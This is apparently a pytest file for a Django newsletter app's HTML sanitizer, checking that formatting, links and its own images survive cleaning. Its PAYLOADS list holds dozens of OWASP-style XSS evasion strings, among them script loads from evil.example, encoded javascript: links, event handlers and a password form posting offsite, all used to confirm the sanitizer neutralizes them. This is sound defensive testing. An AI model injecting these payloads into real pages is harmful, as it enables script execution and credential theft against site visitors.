"""A bulletin's HTML is cleaned: nothing in it runs, loads from elsewhere or breaks the page; formatting stays."""

import re
import uuid
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from django.utils import translation

from grappe.bulletins.html import ATTRIBUTES, TAGS, clean, image_key, plain_text, summary_of

IMAGE_KEY = uuid.UUID("0b6f8a52-6f55-4b1e-9a55-5f1f3f0b6c11")

# OWASP's XSS filter evasion cheat sheet and friends: each must come out with nothing that runs.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<IMG SRC=JaVaScRiPt:alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="<img src=x onerror=alert(1)>">x</p>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<input autofocus onfocus=alert(1)>',
    '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    '<img src="https://tracker.example/pixel.gif?u=123" width="1" height="1">',
    '<img src="//tracker.example/pixel.gif">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<template><script>alert(1)</script></template>',
    '<textarea><script>alert(1)</script></textarea>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<p class="alert" id="main">x</p>',
    '<a href="https://example.com" target="_blank">x</a>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
]

ALLOWED_SCHEMES = {"", "http", "https", "mailto"}


class _Elements(HTMLParser):
    """Every element of some HTML with its attributes, as a browser would read them."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(payload: str, cleaned: str):
    said = f"{payload!r} became {cleaned!r}"
    assert not re.search(r"<\s*(script|style|iframe|object|embed|svg|math|base|meta|form|link)", cleaned, re.I), said
    for tag, attrs in elements(cleaned):
        assert tag in TAGS, said
        assert set(attrs) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), said
        if "href" in attrs:
            assert urlsplit(attrs["href"].strip()).scheme.lower() in ALLOWED_SCHEMES, said
        if tag == "img":
            assert image_key(attrs["src"]) is not None, said


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_an_attack_survives(payload):
    assert_inert(payload, clean(payload))


def test_the_list_covers_the_cheat_sheet():
    assert len(PAYLOADS) >= 30


def test_formatting_survives():
    source = ("<h2>Titre</h2><h3>Sous-titre</h3><h4>Détail</h4><p><strong>Gras</strong>, <em>italique</em>, "
              "<u>souligné</u>, <s>barré</s>, H<sub>2</sub>O, m<sup>2</sup>, <code>x</code></p>"
              "<ul><li>un</li></ul><ol><li>deux</li></ol><blockquote>cité</blockquote><hr>"
              "<pre>bloc</pre><table><thead><tr><th colspan=\"2\">A</th></tr></thead>"
              "<tbody><tr><td>1</td><td>2</td></tr></tbody></table><p>ligne<br>suivante</p>")
    cleaned = clean(source)
    for tag in ("<h2>", "<h3>", "<h4>", "<strong>", "<em>", "<u>", "<s>", "<sub>", "<sup>", "<code>", "<ul>",
                "<ol>", "<li>", "<blockquote>", "<hr>", "<pre>", "<table>", "<thead>", "<tbody>", '<th colspan="2">',
                "<td>", "<br>"):
        assert tag in cleaned, tag


def test_links_keep_their_address_and_open_safely():
    cleaned = clean('<p><a href="https://example.com/x?a=1&amp;b=2" title="Voir">lien</a> '
                    '<a href="mailto:info@grappe.test">écrire</a> <a href="/fr/events/3/">événement</a></p>')
    assert 'href="https://example.com/x?a=1&amp;b=2"' in cleaned and 'title="Voir"' in cleaned
    assert 'href="mailto:info@grappe.test"' in cleaned and 'href="/fr/events/3/"' in cleaned
    assert cleaned.count('rel="noopener noreferrer"') == 3


def test_an_image_of_ours_stays_and_others_go(settings):
    ours = reverse("bulletins:image", args=[IMAGE_KEY])
    cleaned = clean(f'<p><img src="{ours}" alt="Usine" width="640" height="480" onerror="x()">'
                    f'<img src="{settings.GRAPPE_BASE_URL}{ours}" alt="absolu">'
                    f'<img src="https://elsewhere.example{ours}" alt="ailleurs"></p>')
    assert cleaned.count("<img") == 2
    assert f'src="{ours}"' in cleaned and 'alt="Usine"' in cleaned and 'width="640"' in cleaned
    assert "elsewhere" not in cleaned and "onerror" not in cleaned


def test_image_key_reads_only_our_image_addresses():
    assert image_key(reverse("bulletins:image", args=[IMAGE_KEY])) == IMAGE_KEY
    assert image_key("/en/news/images/not-a-key/") is None
    assert image_key("/fr/news/") is None
    assert image_key(reverse("bulletins:image", args=[IMAGE_KEY]) + "?track=1") is None


def test_an_image_uploaded_from_a_page_in_the_other_language_stays():
    with translation.override("en"):
        english = reverse("bulletins:image", args=[IMAGE_KEY])
    with translation.override("fr"):
        assert clean(f'<p><img src="{english}" alt=""></p>') == (
            f'<p><img src="{reverse("bulletins:image", args=[IMAGE_KEY])}" alt=""></p>')


def test_an_empty_text_is_empty():
    assert clean("<p></p>") == "" and clean("   ") == "" and clean("<script>x</script>") == ""


def test_plain_text_is_readable_and_keeps_link_addresses():
    text = plain_text('<h2>Normes</h2><p>Voir <a href="https://example.com/n">la norme</a> et '
                      '<a href="mailto:a@b.test">nous</a>.</p><ul><li>un</li><li>deux &amp; trois</li></ul>')
    assert text == "Normes\n\nVoir la norme (https://example.com/n) et nous (a@b.test).\n\n- un\n- deux & trois"


def test_a_summary_is_the_start_of_the_text():
    assert summary_of("<p>" + "mot " * 200 + "</p>", 50).endswith("…")
    assert len(summary_of("<p>" + "mot " * 200 + "</p>", 50)) <= 50


def test_a_link_with_an_upper_case_scheme_is_tracked_and_listed_in_the_text():
    from grappe.bulletins.mail import Markers, text_of, tracked_links

    marker = Markers()
    body, urls = tracked_links('<p><a href="HTTPS://www.quebec.ca/normes">Normes</a></p>', marker)
    assert urls == ["HTTPS://www.quebec.ca/normes"] and marker("click0") in body
    assert "(HTTPS://www.quebec.ca/normes)" in text_of('<p><a href="HTTPS://www.quebec.ca/normes">Normes</a></p>')
